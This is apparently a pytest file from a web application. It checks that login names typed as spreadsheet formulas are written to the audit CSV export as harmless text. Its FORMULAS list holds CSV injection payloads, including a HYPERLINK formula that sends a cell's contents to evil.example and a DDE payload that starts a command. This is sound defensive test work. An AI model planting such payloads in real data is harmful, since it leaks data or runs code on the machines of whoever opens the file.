"""The audit export is opened in a spreadsheet by auditors. A login name is written into the log
by anyone (a failed login is audited with the name typed); a name that is a formula must reach
the auditor's spreadsheet as text, not run there (CSV injection)."""

import csv
import io

from tanggap.domain.access import SYSTEM
from tanggap.services.accounts import add_user
from tests.web.conftest import bearer
from tests.web.test_console import csrf_of
from tests.web_attack.conftest import logged_in

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1")


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_formula_typed_as_a_login_name_is_exported_as_text(store, attacker_client):
    anonymous = attacker_client()
    token = csrf_of(anonymous.get("/login").text)
    for name in FORMULAS:
        anonymous.post("/login", data={"name": name, "password": "x", "csrf_token": token})
    auditor = add_user(store.uow(), "audrey", "auditor", ["en"], SYSTEM)
    console = logged_in(attacker_client, "audrey", auditor.password)
    exports = (console.get("/console/audit/export.csv").text,
               attacker_client().get("/api/v1/audit", params={"format": "csv"},
                                     headers=bearer(auditor.api_key)).text)
    for exported in exports:
        failed = [row for row in rows_of(exported) if row["kind"] == "login_failed"]
        assert len(failed) == len(FORMULAS)
        cells = [value for row in rows_of(exported) for value in row.values()]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        # Still readable: the name is there, behind the apostrophe that makes it text.
        assert sorted(row["subject_id"] for row in failed) == sorted("'" + name for name in FORMULAS)


def test_the_json_export_keeps_every_value_exactly_for_checking_the_chain(store, attacker_client):
    anonymous = attacker_client()
    token = csrf_of(anonymous.get("/login").text)
    anonymous.post("/login", data={"name": FORMULAS[0], "password": "x", "csrf_token": token})
    auditor = add_user(store.uow(), "audrey", "auditor", ["en"], SYSTEM)
    events = attacker_client().get("/api/v1/audit", headers=bearer(auditor.api_key)).json()["events"]
    assert FORMULAS[0] in [event["subject_id"] for event in events]
